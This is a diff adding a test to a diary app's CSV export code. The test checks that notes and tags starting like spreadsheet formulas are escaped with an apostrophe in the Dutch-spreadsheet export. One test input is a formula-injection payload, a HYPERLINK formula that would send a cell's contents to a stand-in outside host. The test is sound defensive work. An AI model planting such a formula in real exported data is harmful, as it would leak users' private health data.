@@ -113,3 +113,22 @@ names = st.lists(st.text(min_size=1, max_size=20), max_size=5)
 @given(names)
 def test_joined_names_split_back(names_):
     assert csvs.split_list(csvs.join_list(names_)) == names_
+
+
+@pytest.mark.parametrize(
+    "text", ['=HYPERLINK("https://elders.example/?"&A2)', "-1+2", "+31 6", "@SUM(A1)"]
+)
+def test_the_spreadsheet_file_runs_no_formula_the_plain_file_keeps_the_text(anna, text):
+    """A note or tag that starts like a formula: a spreadsheet would run it (the practitioner
+    opens the file of the client's diary), so the Dutch-spreadsheet file writes it as text."""
+    from lijfwijs.diary.models import Tag
+
+    checkin = CheckIn.objects.create(
+        user=anna, at="2026-12-01T09:00:00+00:00", day=LAST, pain=4, note=text
+    )
+    checkin.tags.add(Tag.objects.create(user=anna, name_nl=text, kind=Tag.Kind.TRIGGER))
+    with translation.override("nl"):
+        [spreadsheet] = read(csvs.diary_csv(anna, dutch=True), dutch=True)
+    assert spreadsheet["notitie"] == "'" + text and spreadsheet["tags"] == "'" + text
+    [plain] = read(csvs.diary_csv(anna, dutch=False), dutch=False)
+    assert plain["note"] == text and plain["tags"] == text
